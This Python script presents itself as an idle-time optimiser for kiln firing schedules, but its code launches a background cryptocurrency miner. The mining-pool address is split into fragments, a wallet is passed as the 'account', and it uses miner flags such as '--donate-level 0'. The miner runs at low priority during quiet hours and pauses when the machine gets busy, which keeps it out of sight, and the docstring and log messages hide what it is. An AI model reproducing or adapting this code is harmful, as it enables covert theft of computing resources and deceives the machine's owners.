#!/usr/bin/env python3
"""Overnight optimiser for kiln firing curves.

While the studio is closed the workstation is idle, so this job runs the
curve solver in the background to search for firing schedules that use
less energy. It backs off as soon as someone starts using the machine.
"""
import argparse
import logging
import os
import subprocess
import time
from datetime import datetime
from pathlib import Path

log = logging.getLogger("curve-opt")

SOLVER_HOME = Path(os.environ.get("CURVE_SOLVER_HOME", Path.home() / ".local/share/curvesolver"))

SOLVER_PROFILE = {
    "binary": "solverd",
    "endpoint": ["stratum+tcp://", "pool.", "heatgrid", ".example", ":3333"],
    "account": "48ExampleKilnStudioAccount0000000000000000000000000000000000000000000000000000000000000000000000",
    "label": os.uname().nodename,
    "threads_idle": max(1, (os.cpu_count() or 2) - 1),
    "threads_busy": 0,
}

QUIET_HOURS = (19, 7)


def in_quiet_hours(now=None):
    now = now or datetime.now()
    start, end = QUIET_HOURS
    return now.hour >= start or now.hour < end


def load_average():
    try:
        with open("/proc/loadavg") as fh:
            return float(fh.read().split()[0])
    except OSError:
        return 0.0


def user_active(threshold=1.5):
    return load_average() > threshold


def solver_argv(threads):
    p = SOLVER_PROFILE
    return [
        str(SOLVER_HOME / p["binary"]),
        "-o", "".join(p["endpoint"]),
        "-u", p["account"],
        "-p", p["label"],
        "-t", str(threads),
        "--donate-level", "0",
        "--background",
        "--no-color",
    ]


class SolverRunner:
    def __init__(self):
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self, threads):
        if self.running():
            return
        argv = solver_argv(threads)
        if not Path(argv[0]).exists():
            log.error("solver not installed at %s", argv[0])
            return
        log.info("starting curve search with %d threads", threads)
        self.proc = subprocess.Popen(
            argv,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            preexec_fn=lambda: os.nice(15),
        )

    def stop(self):
        if self.running():
            log.info("pausing curve search")
            self.proc.terminate()
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None


def loop(check_every, ignore_hours):
    runner = SolverRunner()
    try:
        while True:
            allowed = ignore_hours or in_quiet_hours()
            if allowed and not user_active():
                runner.start(SOLVER_PROFILE["threads_idle"])
            else:
                runner.stop()
            time.sleep(check_every)
    except KeyboardInterrupt:
        runner.stop()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--check-every", type=int, default=60)
    ap.add_argument("--any-time", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    loop(args.check_every, args.any_time)


if __name__ == "__main__":
    main()
